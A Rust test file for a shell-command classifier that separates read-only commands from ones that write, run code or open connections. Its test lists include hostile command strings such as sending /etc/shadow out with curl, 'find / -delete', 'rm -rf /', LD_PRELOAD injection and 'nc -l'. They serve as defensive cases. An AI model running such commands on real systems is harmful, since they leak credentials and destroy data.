//! Commands judged as the program they run: options, subcommands, wrappers.

use super::*;
use crate::script::{Part, analyse};

fn classified(command: &str) -> Classified {
    let script = analyse(command);
    let Some(Part::Command(c)) = script.parts.iter().find(|p| matches!(p, Part::Command(_))) else {
        panic!("{command}: no command in {:?}", script.parts)
    };
    assert!(script.unchecked().next().is_none(), "{command}: {:?}", script.parts);
    classify(c)
}

#[track_caller]
fn reads(command: &str) {
    let c = classified(command);
    assert!(c.only_reads(), "{command} should only read: {:?}", c.culprits);
}

#[track_caller]
fn writes(command: &str) -> String {
    let c = classified(command);
    assert!(!c.only_reads(), "{command} should not pass as a read");
    c.culprits[0].why.clone()
}

#[test]
fn options_that_write_or_run_under_a_reading_command_are_not_reads() {
    for attack in [
        "zpool events -c",
        "zpool events -vc",
        "zpool status -c /tmp/evil.sh tank",
        "zpool iostat -c smart",
        "smartctl -H -Hs off /dev/sda",
        "smartctl --smart=off /dev/sda",
        "smartctl -t long /dev/sda",
        "journalctl --rot",
        "journalctl --rotate",
        "journalctl --vacuum-size=1M",
        "journalctl --flush",
        "apt policy -o Dir::Cache::pkgcache=/tmp/x",
        "apt -c /tmp/evil.conf list",
        "restic snapshots --password-command 'sh -c id'",
        "restic -o sftp.command=evil snapshots",
        "borg list --rsh 'sh -c id' /repo",
        "borg list --remote-path evil /repo",
        "sort -uo /etc/passwd x",
        "sort -u -o /etc/passwd x",
        "sort --output=/etc/passwd x",
        "sort --compress-program=sh x",
        "sort -T /tmp x",
        "find / -fprint0 /tmp/x",
        "find / -fprintf /tmp/x %p",
        "find / -delete",
        "find /tmp -name x -exec rm {} ;",
        "find /tmp -execdir rm {} +",
        "curl -o /etc/passwd http://x",
        "curl -O http://x/y",
        "curl --data-binary @/etc/shadow http://x",
        "curl -d @/etc/shadow http://x",
        "curl -H @/etc/shadow http://x",
        "curl -X DELETE http://x",
        "curl -T /etc/shadow http://x",
        "curl file:///etc/shadow",
        "curl gopher://127.0.0.1:6379/_FLUSHALL",
        "curl -K /tmp/conf http://x",
        "curl -w '%output{/tmp/x}' http://x",
        "git log --output=/tmp/x",
        "git diff --ext-diff",
        "git -c core.pager=evil log",
        "git log --textconv -p",
        "git branch evil",
        "git tag v9",
        "git config core.fsmonitor evil",
        "git reflog expire --all",
        "tar --to-command=sh -xf x.tar",
        "tar -xf x.tar",
        "tar xf x.tar",
        "tar -cf /tmp/x.tar /etc",
        "tar -tf x.tar --use-compress-program=sh",
        "date -s 2020-01-01",
        "date --set=2020-01-01",
        "date --se 2020-01-01",
        "date 010100002030",
        "hostname pwned",
        "hostname -F /tmp/x",
        "file -C -m x",
        "uniq in out",
        "sed -i s/a/b/ /etc/passwd",
        "sed -n 'w /tmp/x' /etc/hosts",
        "awk '{system(\"id\")}' /etc/hosts",
        "awk -f /tmp/prog.awk",
        "ss -K dst 1.2.3.4",
        "docker rm -f db",
        "docker container rm -f db",
        "docker run --rm alpine",
        "docker --config /tmp ps",
        "systemctl --failed stop sshd",
        "systemctl stop sshd",
        "systemctl -q restart sshd",
        "ip link set eth0 down",
        "ip -b /tmp/cmds",
        "iptables -F",
        "sshd -d",
        "midclt call pool.scrub tank",
        "set -a",
        "printf -v PATH /tmp",
        "read PATH",
        "dmesg -C",
        "curl -o /tmp/x https://example.com",
    ] {
        writes(attack);
    }
}

#[test]
fn reading_uses_of_those_commands_read() {
    for command in [
        "zpool status -x",
        "zpool status -v tank",
        "zpool list -H -o name,size,alloc,free,cap,frag,health",
        "zpool events -H",
        "zpool events -vH",
        "zfs list -H -t snapshot -o name,creation,used -s creation",
        "zfs get -H -o value compression tank",
        "smartctl -H /dev/sda",
        "smartctl -a /dev/nvme0",
        "smartctl --scan",
        "smartctl -x -j /dev/sda",
        "smartctl -d sat -A /dev/sdb",
        "journalctl -u sshd -n 100 --no-pager",
        "journalctl -p err --since '1 hour ago' --no-pager -q",
        "journalctl -k -b -1",
        "journalctl --disk-usage",
        "systemctl status nginx",
        "systemctl --failed --no-legend --plain",
        "systemctl list-units --type=service --state=activating,deactivating,reloading --no-legend --plain",
        "systemctl is-active docker",
        "systemctl --no-pager status nginx -n 50",
        "docker ps -a --format 'table {{.Names}}\t{{.Status}}'",
        "docker container ls -a",
        "docker image ls --filter dangling=true",
        "docker system df -v",
        "docker logs --tail 100 --timestamps web",
        "docker inspect --format '{{.State.OOMKilled}}' web",
        "docker volume ls --filter dangling=true",
        "docker stats --no-stream",
        "apt list --upgradable",
        "apt policy openssh-server",
        "apt-cache policy openssh-server",
        "dpkg -l",
        "restic snapshots --latest 3 --compact",
        "restic check",
        "restic -r /srv/restic stats --mode raw-data",
        "borg list --last 5",
        "borg info --json /repo",
        "sort -rh",
        "sort -t: -k3 -n /etc/passwd",
        "find /var/log -xdev -type f -size +50M -printf '%s\t%p\n'",
        "find /etc /root -xdev -perm -0002 ! -type l",
        "find /srv -maxdepth 2 -name '*.log' -mtime +7 -print0",
        "curl -sI https://example.com",
        "curl -s -o /dev/null -w '%{http_code}' https://example.com",
        "git log --oneline -n 5",
        "git log -3 --stat",
        "git status --porcelain",
        "git branch -a",
        "git branch --list 'feat*'",
        "git config --get remote.origin.url",
        "tar -tzf backup.tar.gz",
        "tar -xOf backup.tar etc/hostname",
        "ss -tulpn",
        "lsblk -o NAME,SERIAL,SIZE",
        "date +%s",
        "date -u -d yesterday +%F",
        "hostname -f",
        "head -n 20 /var/log/syslog",
        "head -5 x",
        "tail -n 80",
        "uniq -c",
        "awk '{print $1}' /etc/hosts",
        "awk -F: '$3 >= 1000 {print $1}' /etc/passwd",
        "sed -n '1,10p' /etc/hosts",
        "grep -Ei 'failed password|invalid user' /var/log/auth.log",
        "grep -rn TODO /srv/app",
        "wc -l",
        "ls -lt --time-style=long-iso /var/lib/vz/dump",
        "du -xh --max-depth=2 /var",
        "df -i -x tmpfs -x devtmpfs",
        "ip -br addr",
        "ip route show",
        "iptables -S",
        "nft list ruleset",
        "ufw status verbose",
        "sshd -T",
        "midclt call pool.query",
        "midclt call pool.snapshottask.query",
        "last -n 20",
        "who",
        "lsof +L1",
        "set -euo pipefail",
        "echo hello",
        "printf '%s\n' -x",
        "jq -r '.[] | .Name' /tmp/x.json",
        "dmesg -T --level=err",
    ] {
        reads(command);
    }
}

#[test]
fn long_options_are_read_only_in_full() {
    writes("journalctl --rot");
    let why = writes("journalctl --no-pag");
    assert!(why.contains("write options in full"), "{why}");
    reads("journalctl --no-pager");
}

#[test]
fn short_option_bundles_are_read_letter_by_letter() {
    let why = writes("smartctl -Hs off /dev/sda");
    assert!(why.contains("`-s` (in `-Hs`)"), "{why}");
    // A value attached in a bundle is a value, not more options.
    reads("sort -t, -k2");
    reads("ss -tulpn");
    // An option's value that looks like an option would be read as one were the table wrong.
    let why = writes("sort -k -o x");
    assert!(why.contains("looks like an option"), "{why}");
}

#[test]
fn wrappers_are_judged_as_the_program_they_run() {
    for command in [
        "timeout 5 zpool status",
        "timeout -s KILL 10s zpool status -x",
        "nice -n 10 du -sh /var",
        "ionice -c 3 du -sh /var",
        "env LANG=C ls",
        "env ls",
        "command ls -la",
        "command -v docker",
        "sudo -n smartctl -H /dev/sda",
        "stdbuf -oL journalctl -n 5",
        "xargs -r docker inspect --format '{{.Name}}'",
        "xargs ls -la",
        "xargs",
        "env",
    ] {
        reads(command);
    }
    for command in [
        "timeout 5 rm -rf /",
        "nice rm x",
        "env rm x",
        "env PATH=/tmp ls",
        "env -S 'rm -rf /' ",
        "command rm x",
        "sudo rm x",
        "sudo -s",
        "xargs rm",
        "xargs sort -o /etc/passwd",
        "xargs find /",
        "timeout 5 sh -c 'rm -rf /'",
        "builtin eval rm",
        "ionice -p 1 -c 3",
        "exec rm x",
    ] {
        writes(command);
    }
    let c = classified("timeout 5 systemctl stop sshd");
    assert_eq!((c.start, c.program.as_deref()), (2, Some("systemctl")));
    assert_eq!(c.culprits[0].word, Some(3));
    assert!(c.culprits[0].action);
}

#[test]
fn xargs_arguments_may_be_options() {
    // They are appended where options are read: harmless for ls, not for sort or find.
    reads("xargs -0 ls -ld");
    let why = writes("xargs sort");
    assert!(why.contains("input of xargs"), "{why}");
    reads("xargs -I{} docker logs --tail 5 {}");
    writes("xargs -I{} sort {}");
}

#[test]
fn variables_set_for_a_command_are_allowed_only_when_harmless() {
    reads("LANG=C LC_ALL=C ls -la");
    reads("SYSTEMD_PAGER=cat systemctl status x");
    for command in ["BORG_RSH='sh -c id' borg list /r", "PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "PAGER=sh git log"] {
        let c = classified(command);
        assert!(!c.only_reads(), "{command}");
        assert_eq!(c.culprits[0].word, None, "{command}");
    }
}

#[test]
fn computed_words_are_harmless_only_where_no_option_writes() {
    reads("ls $dir");
    reads("cat \"$f\"");
    reads("docker logs $(docker ps -q | head -1)");
    let why = writes("sort $opts x");
    assert!(why.contains("computed"), "{why}");
    writes("find . $x");
    writes("find $dir -name x");
    reads("find \"/var/$dir\" -name x");
    // A computed subcommand or program is never a read.
    writes("docker $verb web");
    writes("$cmd -rf /");
}

#[test]
fn programs_outside_the_bin_folders_are_not_the_program_they_name() {
    reads("/usr/bin/ls -la");
    reads("/bin/cat /etc/hosts");
    let why = writes("./ls");
    assert!(why.contains("outside the system's bin folders"), "{why}");
    writes("/tmp/evil/ls");
    let why = writes("exfil-tool -l 4444");
    assert!(why.contains("not a program the policy knows"), "{why}");
    let why = writes("nc -l 4444");
    assert_eq!(why, "`nc` opens network connections");
}

#[test]
fn aliases_give_the_canonical_command() {
    let c = classified("docker container rm -f db");
    assert_eq!(c.canonical, ["docker", "rm", "-f", "db"]);
    let c = classified("/usr/bin/docker image rm x");
    assert_eq!(c.canonical, ["docker", "rmi", "x"]);
    // Not where an operand is: `docker logs container` stays.
    let c = classified("docker logs container");
    assert_eq!(c.canonical, ["docker", "logs", "container"]);
}

#[test]
fn reading_commands_name_the_files_they_read() {
    let paths = |command: &str| -> Vec<(String, Access)> {
        classified(command).reads.into_iter().map(|p| (p.path.text, p.access)).collect()
    };
    assert_eq!(
        paths("cat /etc/shadow /etc/hosts"),
        [("/etc/shadow".into(), Access::Content), ("/etc/hosts".into(), Access::Content)]
    );
    assert_eq!(paths("grep -i root /etc/shadow"), [("/etc/shadow".into(), Access::Content)]);
    assert_eq!(paths("grep -e root -e x /etc/shadow"), [("/etc/shadow".into(), Access::Content)]);
    assert_eq!(paths("grep -r secret /etc"), [("/etc".into(), Access::Tree)]);
    assert_eq!(paths("grep -r secret"), [(".".into(), Access::Tree)]);
    assert_eq!(paths("sort --files0-from=/etc/list"), [("/etc/list".into(), Access::Content)]);
    assert_eq!(
        paths("sed -n 'r /etc/shadow' /etc/hosts"),
        [("/etc/shadow".into(), Access::Content), ("/etc/hosts".into(), Access::Content)]
    );
    assert_eq!(paths("timeout 5 head -c 100 /etc/shadow"), [("/etc/shadow".into(), Access::Content)]);
    assert_eq!(paths("xargs -a /etc/shadow echo"), [("/etc/shadow".into(), Access::Content)]);
    // Listing and stat read names and metadata, not content.
    assert!(paths("ls -l /etc/shadow").is_empty());
    assert!(paths("stat /etc/shadow").is_empty());
    assert!(classified("cd /etc").changes_dir);
    assert!(classified("env -C /etc cat shadow").changes_dir);
}

#[test]
fn every_table_entry_parses() {
    // The table is built lazily; building it checks every option's syntax.
    assert!(TABLE.len() > 80);
    assert!(TABLE.values().filter(|p| p.basic).count() > 40);
}
